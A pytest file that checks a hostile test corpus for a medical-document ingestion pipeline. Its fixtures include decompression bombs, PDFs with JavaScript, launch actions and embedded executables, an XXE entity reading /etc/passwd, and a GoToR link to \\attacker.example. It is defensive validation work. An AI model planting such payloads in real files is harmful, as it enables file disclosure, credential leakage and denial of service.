"""The hostile corpus is what it claims to be (checked with libmagic, pypdf, zipfile, Pillow, not the validators)."""

from __future__ import annotations

import csv
import json
import random
import struct
import subprocess
import sys
import xml.etree.ElementTree as ET
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

import magic
import pytest
from PIL import Image
from pypdf import PdfReader

from pipeline.core.identity import INS_OID_NIR, is_valid_nir
from pipeline.core.reasons import REASONS

from . import corpus, images, rawpdf
from .corpus import (
    BAD_PATIENT_INS,
    DOCUMENT_TYPE,
    EXPECTED_COLUMNS,
    FUTURE_DATE,
    MANIFEST_COLUMNS,
    MANY_PAGES,
    OTHER_PATIENT_INS,
    PATIENT_INS,
    SEED,
    HostileCase,
    good_pdf_bytes,
    write_non_utf8_manifest_batch,
)
from .rawpdf import FLATE_BOMB_BYTES, MIB

pytestmark = pytest.mark.slow  # builds decompression bombs and a hostile corpus

REPO = Path(__file__).resolve().parents[2]
MAX_FILE_BYTES = 2 * MIB  # smaller than the default, so huge.txt stays small
CDA = "{urn:hl7-org:v3}"

EXPECTED = {
    "good.pdf": ("indexed", ""),
    "truncated.pdf": ("rejected", "pdf_corrupt"),
    "garbage.pdf": ("rejected", "pdf_corrupt"),
    "encrypted.pdf": ("rejected", "pdf_encrypted"),
    "javascript.pdf": ("rejected", "pdf_active_content"),
    "openaction_js.pdf": ("rejected", "pdf_active_content"),
    "launch.pdf": ("rejected", "pdf_active_content"),
    "embedded_exe.pdf": ("rejected", "pdf_active_content"),
    "flate_bomb.pdf": ("rejected", "pdf_too_large"),
    "many_pages.pdf": ("rejected", "pdf_too_large"),
    "billion_laughs.xml": ("rejected", "xml_forbidden_construct"),
    "external_entity.xml": ("rejected", "xml_forbidden_construct"),
    "malformed.xml": ("rejected", "xml_malformed"),
    "cda_other_patient.xml": ("rejected", "patient_mismatch"),
    "cda_bad_ins.xml": ("rejected", "invalid_ins"),
    "cda_good.xml": ("indexed", ""),
    "repeated_open_action.pdf": ("rejected", "pdf_ambiguous"),
    "repeated_contents_bomb.pdf": ("rejected", "pdf_ambiguous"),
    "xfa_script.pdf": ("rejected", "pdf_active_content"),
    "gotor_unc.pdf": ("rejected", "pdf_active_content"),
    "polyglot_exe.pdf": ("rejected", "pdf_active_content"),
    "huge.png": ("rejected", "image_too_large"),
    "missing_objects.pdf": ("indexed", ""),
    "object_stream_flood.pdf": ("rejected", "pdf_too_large"),
    "cda_loinc_as_snomed.xml": ("indexed", ""),
    "not_cda.xml": ("rejected", "unsupported_type"),
    "pdf_header_zip.pdf": ("rejected", "pdf_corrupt"),
    "html_as.pdf": ("rejected", "type_mismatch"),
    "zip_as_document.zip": ("rejected", "unsupported_type"),
    "zip_bomb.zip": ("rejected", "unsupported_type"),
    "empty.pdf": ("rejected", "empty_file"),
    "huge.txt": ("rejected", "file_too_large"),
    "exe_as.pdf": ("rejected", "type_mismatch"),
    "elf_no_ext": ("rejected", "unsupported_type"),
    "note.txt": ("indexed", ""),
    "image.png": ("indexed", ""),
    "photo.jpg": ("indexed", ""),
    "scan.tiff": ("indexed", ""),
    "future_date.pdf": ("rejected", "invalid_metadata"),
    "bad_nir.pdf": ("rejected", "invalid_ins"),
}

PDF = {"application/pdf"}
XML = {"text/xml", "application/xml"}
MIME = {
    **dict.fromkeys(
        [
            "good.pdf",
            "truncated.pdf",
            "garbage.pdf",
            "encrypted.pdf",
            "javascript.pdf",
            "openaction_js.pdf",
            "launch.pdf",
            "embedded_exe.pdf",
            "flate_bomb.pdf",
            "many_pages.pdf",
            "pdf_header_zip.pdf",  # the polyglot: libmagic reads the header
            "repeated_open_action.pdf",
            "repeated_contents_bomb.pdf",
            "xfa_script.pdf",
            "gotor_unc.pdf",
            "polyglot_exe.pdf",
            "missing_objects.pdf",
            "object_stream_flood.pdf",
            "future_date.pdf",
            "bad_nir.pdf",
        ],
        PDF,
    ),
    **dict.fromkeys(
        [
            "billion_laughs.xml",
            "external_entity.xml",
            "malformed.xml",
            "cda_other_patient.xml",
            "cda_bad_ins.xml",
            "cda_good.xml",
            "not_cda.xml",
            "cda_loinc_as_snomed.xml",
        ],
        XML,
    ),
    "zip_as_document.zip": {"application/zip"},
    "zip_bomb.zip": {"application/zip"},
    "html_as.pdf": {"text/html"},
    "image.png": {"image/png"},
    "huge.png": {"image/png"},
    "photo.jpg": {"image/jpeg"},
    "scan.tiff": {"image/tiff"},
    "note.txt": {"text/plain"},
    "huge.txt": {"text/plain"},
    "empty.pdf": {"inode/x-empty", "application/x-empty"},
}
DOCUMENT_MIMES = PDF | XML | {"image/png", "image/jpeg", "image/tiff", "text/plain", "text/csv"}

# Build in a child process, so its wall time and peak memory are its own.
BUILD_SCRIPT = """
import dataclasses, json, sys, time
from pathlib import Path
from tests.hostile.corpus import HostileCase, build_hostile_batch

started = time.perf_counter()
cases = build_hostile_batch(Path(sys.argv[1]), max_file_bytes=int(sys.argv[2]))
seconds = time.perf_counter() - started
assert isinstance(cases, list) and all(isinstance(c, HostileCase) for c in cases)
# VmHWM is this process's own peak: ru_maxrss also holds the peak of the process it was forked from (Linux
# records the old address space's high-water mark at exec), here the test run's.
status = Path("/proc/self/status").read_text()
peak_mib = int(next(line.split()[1] for line in status.splitlines() if line.startswith("VmHWM:"))) / 1024  # kB
print(json.dumps({"seconds": seconds, "peak_mib": peak_mib, "cases": [dataclasses.asdict(c) for c in cases]}))
"""


@dataclass(frozen=True)
class Built:
    root: Path
    cases: list[HostileCase]
    seconds: float
    peak_mib: float

    def path(self, name: str) -> Path:
        return self.root / name


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    root = tmp_path_factory.mktemp("hostile") / "batch"
    result = subprocess.run(
        [sys.executable, "-c", BUILD_SCRIPT, str(root), str(MAX_FILE_BYTES)],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    return Built(root, [HostileCase(**c) for c in report["cases"]], report["seconds"], report["peak_mib"])


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _pdf(built: Built, name: str) -> PdfReader:
    return PdfReader(built.path(name))


# --- the batch as a whole -----------------------------------------------------------------------


def test_the_bombs_are_built_as_streams_in_bounded_memory(built: Built) -> None:
    # Memory, not time (timings belong in benchmarks). The zip bomb inflates to 1 GiB and the flate
    # bomb to 400 MiB: staying well under either shows they were streamed, not held.
    assert built.peak_mib < 600, f"peak RSS {built.peak_mib:.0f} MiB"


def test_cases_are_the_contract(built: Built) -> None:
    assert {c.file: (c.expected_state, c.expected_reason) for c in built.cases} == EXPECTED
    assert len(built.cases) == len(EXPECTED)
    for case in built.cases:
        assert case.note
        if case.expected_state == "rejected":
            assert case.expected_reason in REASONS, case
        else:
            assert case.expected_reason == ""


def test_every_case_file_exists(built: Built) -> None:
    for case in built.cases:
        assert built.path(case.file).is_file(), case.file
    assert built.path("empty.pdf").stat().st_size == 0
    assert built.path("huge.txt").stat().st_size == MAX_FILE_BYTES + MIB


def test_small_files_are_reproducible(built: Built) -> None:
    """Rebuilt in this process, byte for byte (fixed dates, fixed PDF /ID, no random salts)."""
    rebuilt = {
        "good.pdf": corpus.good_pdf_bytes(),
        "encrypted.pdf": corpus._encrypted_pdf(),
        "javascript.pdf": corpus._javascript_pdf(),
        "embedded_exe.pdf": corpus._embedded_exe_pdf(),
        "image.png": images.png_bytes(),
        "photo.jpg": images.jpeg_bytes(),
        "scan.tiff": images.tiff_bytes(),
        "zip_as_document.zip": corpus.small_zip_bytes(),
    }
    for name, data in rebuilt.items():
        assert built.path(name).read_bytes() == data, name


def test_manifest_and_expected_list_the_same_files(built: Built) -> None:
    manifest = _csv(built.path("manifest.csv"))
    expected = _csv(built.path("expected.csv"))
    assert tuple(manifest[0]) == MANIFEST_COLUMNS
    assert tuple(expected[0]) == EXPECTED_COLUMNS
    names = [c.file for c in built.cases]
    assert [r["file"] for r in manifest] == names
    assert [r["file"] for r in expected] == names
    assert {r["file"]: (r["expected_state"], r["expected_reason"]) for r in expected} == EXPECTED
    on_disk = {p.name for p in built.root.iterdir()} - {"manifest.csv", "expected.csv"}
    assert on_disk == set(names)


def test_manifest_rows_are_valid_except_where_meant(built: Built) -> None:
    rows = {r["file"]: r for r in _csv(built.path("manifest.csv"))}
    assert len({r["source_document_id"] for r in rows.values()}) == len(rows)
    for name, row in rows.items():
        assert row["title"] == "Compte rendu de biologie"
        assert row["document_type"] == DOCUMENT_TYPE
        assert row["author_id"] == "10003456789"
        assert row["author_profession"] == "physician"
        if name == "bad_nir.pdf":
            assert row["patient_ins"] == BAD_PATIENT_INS
            assert not is_valid_nir(row["patient_ins"])
        else:
            assert row["patient_ins"] == PATIENT_INS
            assert is_valid_nir(row["patient_ins"])
        if name == "future_date.pdf":
            assert row["service_date"] == FUTURE_DATE
        else:
            assert row["service_date"].startswith("2025-")
    assert rows["future_date.pdf"]["patient_ins"] == PATIENT_INS


@pytest.mark.parametrize("name", sorted(MIME))
def test_libmagic_names_the_intended_type(built: Built, name: str) -> None:
    assert magic.from_file(str(built.path(name)), mime=True) in MIME[name]


@pytest.mark.parametrize("name", ["exe_as.pdf", "elf_no_ext"])
def test_executables_are_not_a_document_type(built: Built, name: str) -> None:
    assert magic.from_file(str(built.path(name)), mime=True) not in DOCUMENT_MIMES
    head = built.path(name).read_bytes()[:4]
    assert head.startswith(b"MZ") if name == "exe_as.pdf" else head == b"\x7fELF"


# --- PDFs ---------------------------------------------------------------------------------------


def test_good_pdfs_read_with_text(built: Built) -> None:
    for name in ("good.pdf", "future_date.pdf", "bad_nir.pdf"):
        reader = _pdf(built, name)
        assert not reader.is_encrypted
        assert len(reader.pages) == 1
        assert "Compte rendu de biologie" in reader.pages[0].extract_text()


def test_truncated_and_garbage_pdfs(built: Built) -> None:
    good = built.path("good.pdf").read_bytes()
    truncated = built.path("truncated.pdf").read_bytes()
    assert truncated == good[: len(good) // 2]
    assert b"%%EOF" not in truncated
    garbage = built.path("garbage.pdf").read_bytes()
    assert garbage == b"%PDF-1.7\n" + random.Random(SEED).randbytes(20 * 1024)


def test_encrypted_pdf_needs_a_password(built: Built) -> None:
    reader = _pdf(built, "encrypted.pdf")
    assert reader.is_encrypted
    assert not reader.decrypt("")  # no empty user password


def test_javascript_pdf_has_a_javascript_name_tree(built: Built) -> None:
    root = _pdf(built, "javascript.pdf").trailer["/Root"]
    names = root["/Names"]["/JavaScript"]["/Names"]
    action = names[1].get_object()
    assert action["/S"] == "/JavaScript"
    assert "app.alert" in action["/JS"]


def test_open_actions(built: Built) -> None:
    js = _pdf(built, "openaction_js.pdf").trailer["/Root"]["/OpenAction"]
    assert js["/S"] == "/JavaScript" and js["/JS"]
    launch = _pdf(built, "launch.pdf").trailer["/Root"]["/OpenAction"]
    assert launch["/S"] == "/Launch" and launch["/F"] == "calc.exe"


def test_embedded_exe(built: Built) -> None:
    attachments = _pdf(built, "embedded_exe.pdf").attachments
    assert list(attachments) == ["update.exe"]
    assert attachments["update.exe"][0].startswith(b"MZ")


def test_flate_bomb_is_small_on_disk_and_inflates_hugely(built: Built) -> None:
    path = built.path("flate_bomb.pdf")
    assert path.stat().st_size < 2 * MIB
    contents = _pdf(built, "flate_bomb.pdf").pages[0]["/Contents"].get_object()
    assert contents["/Filter"] == "/FlateDecode"
    inflater, pending, inflated = zlib.decompressobj(), contents._data, 0
    while pending:  # bounded: 16 MiB of output at a time
        inflated += len(inflater.decompress(pending, 16 * MIB))
        pending = inflater.unconsumed_tail
    assert inflated == FLATE_BOMB_BYTES


def test_many_pages(built: Built) -> None:
    assert len(_pdf(built, "many_pages.pdf").pages) == MANY_PAGES


def test_pdf_header_zip_polyglot(built: Built) -> None:
    data = built.path("pdf_header_zip.pdf").read_bytes()
    assert data.startswith(b"%PDF-1.4\n")
    with zipfile.ZipFile(built.path("pdf_header_zip.pdf")) as archive:  # the zip behind the header still opens
        assert archive.read("compte-rendu.txt").startswith(b"Compte rendu")


# --- XML ----------------------------------------------------------------------------------------


def test_xml_attacks_are_present(built: Built) -> None:
    laughs = built.path("billion_laughs.xml").read_text()
    assert "<!DOCTYPE lolz [" in laughs and "<!ENTITY lol9" in laughs and "&lol9;" in laughs
    external = built.path("external_entity.xml").read_text()
    assert '<!ENTITY e SYSTEM "file:///etc/passwd">' in external and "&e;" in external
    assert "<ClinicalDocument" in external
    with pytest.raises(ET.ParseError):
        ET.fromstring(built.path("malformed.xml").read_bytes())


@pytest.mark.parametrize(
    ("name", "ins", "valid"),
    [("cda_good.xml", PATIENT_INS, True), ("cda_other_patient.xml", OTHER_PATIENT_INS, True), ("cda_bad_ins.xml", BAD_PATIENT_INS, False)],
)
def test_cda_documents(built: Built, name: str, ins: str, valid: bool) -> None:
    data = built.path(name).read_bytes()
    assert b"<!DOCTYPE" not in data  # safe to parse with the standard library
    root = ET.fromstring(data)
    assert root.tag == f"{CDA}ClinicalDocument"
    code = root.find(f"{CDA}code")
    assert code is not None and code.get("code") == DOCUMENT_TYPE and code.get("codeSystem") == "2.16.840.1.113883.6.1"
    ident = root.find(f"{CDA}recordTarget/{CDA}patientRole/{CDA}id")
    assert ident is not None and ident.get("root") == INS_OID_NIR
    assert ident.get("extension") == ins
    assert is_valid_nir(ins) is valid
    assert (ins == PATIENT_INS) is (name == "cda_good.xml")


def test_not_cda_is_well_formed_xml(built: Built) -> None:
    assert ET.fromstring(built.path("not_cda.xml").read_bytes()).tag == "note"


# --- archives, images, text ---------------------------------------------------------------------


def test_zip_as_document(built: Built) -> None:
    with zipfile.ZipFile(built.path("zip_as_document.zip")) as archive:
        assert archive.namelist() == ["compte-rendu.txt"]
        assert archive.read("compte-rendu.txt").decode("utf-8").startswith("Compte rendu")


def test_zip_bomb_is_small_and_inflates_to_a_gigabyte(built: Built) -> None:
    assert built.path("zip_bomb.zip").stat().st_size < 5 * MIB
    with zipfile.ZipFile(built.path("zip_bomb.zip")) as archive:
        (member,) = archive.infolist()
        assert member.file_size >= 900 * MIB
        assert member.compress_size < 5 * MIB


@pytest.mark.parametrize(("name", "image_format"), [("image.png", "PNG"), ("photo.jpg", "JPEG"), ("scan.tiff", "TIFF")])
def test_images_decode(built: Built, name: str, image_format: str) -> None:
    with Image.open(built.path(name)) as image:
        assert image.format == image_format
        image.load()
        assert image.size[0] > 0 and image.size[1] > 0


def test_texts_are_french_utf8(built: Built) -> None:
    assert built.path("note.txt").read_text(encoding="utf-8").startswith("Compte rendu de biologie")
    with built.path("huge.txt").open(encoding="utf-8") as handle:
        assert "créatinine" in handle.read(4096)


def test_html_named_pdf(built: Built) -> None:
    assert built.path("html_as.pdf").read_bytes().startswith(b"<!DOCTYPE html><html><body>")


# --- the Windows-1252 manifest ------------------------------------------------------------------


def test_non_utf8_manifest_batch(tmp_path: Path) -> None:
    out = tmp_path / "cp1252"
    write_non_utf8_manifest_batch(out)
    assert {p.name for p in out.iterdir()} == {"good.pdf", "manifest.csv"}
    data = (out / "manifest.csv").read_bytes()
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    text = data.decode("cp1252")
    assert "Compte rendu opératoire" in text
    assert text.splitlines()[0] == ",".join(MANIFEST_COLUMNS)
    assert (out / "good.pdf").read_bytes() == good_pdf_bytes()


# --- let in before, refused now (and the two that must stay in) ---------------------------------


def test_repeated_keys_are_in_the_raw_bytes(built: Built) -> None:
    assert built.path("repeated_open_action.pdf").read_bytes().count(b"/OpenAction") == 2
    assert "/JavaScript" not in str(_pdf(built, "repeated_open_action.pdf").trailer["/Root"]["/OpenAction"])  # pypdf keeps the first
    bomb = built.path("repeated_contents_bomb.pdf")
    assert bomb.read_bytes().count(b"/Contents") == 2 and bomb.stat().st_size < 2 * MIB


def test_xfa_template_holds_a_script(built: Built) -> None:
    xfa = _pdf(built, "xfa_script.pdf").trailer["/Root"]["/AcroForm"]["/XFA"]
    assert xfa[0] == "template"
    assert b'<script contentType="application/x-javascript">app.launchURL(' in xfa[1].get_object().get_data()


def test_gotor_names_a_unc_path(built: Built) -> None:
    action = _pdf(built, "gotor_unc.pdf").trailer["/Root"]["/OpenAction"]
    assert action["/S"] == "/GoToR" and action["/F"] == "\\\\attacker.example\\share\\cr.pdf"


def test_polyglot_is_a_pdf_and_a_zip_with_an_executable(built: Built) -> None:
    assert len(_pdf(built, "polyglot_exe.pdf").pages) == 1
    with zipfile.ZipFile(built.path("polyglot_exe.pdf")) as archive:
        assert archive.read("setup.exe").startswith(b"MZ")


def test_huge_png_announces_400_million_pixels_in_a_small_file(built: Built) -> None:
    data = built.path("huge.png").read_bytes()
    assert len(data) < 200 * 1024
    assert data[12:16] == b"IHDR" and struct.unpack(">II", data[16:24]) == (images.HUGE_PNG_SIDE, images.HUGE_PNG_SIDE)
    assert zlib.crc32(data[12:29]) == struct.unpack(">I", data[29:33])[0]


def test_missing_objects_are_cited_but_never_defined(built: Built) -> None:
    data = built.path("missing_objects.pdf").read_bytes()
    assert data.count(b" 0 R") > rawpdf.MISSING_OBJECTS and data.count(b" 0 obj") == 6


def test_object_stream_flood_is_tiny_and_inflates(built: Built) -> None:
    path = built.path("object_stream_flood.pdf")
    assert path.stat().st_size < 8 * 1024
    extra = _pdf(built, "object_stream_flood.pdf").trailer["/Root"]["/Extra"]
    assert [len(array.get_object()) for array in extra] == [rawpdf.FLOOD_LENGTH] * rawpdf.FLOOD_ARRAYS


def test_cda_loinc_code_under_the_snomed_oid(built: Built) -> None:
    code = ET.fromstring(built.path("cda_loinc_as_snomed.xml").read_bytes()).find(f"{CDA}code")
    assert code is not None and (code.get("code"), code.get("codeSystem")) == (DOCUMENT_TYPE, corpus.SNOMED_OID)
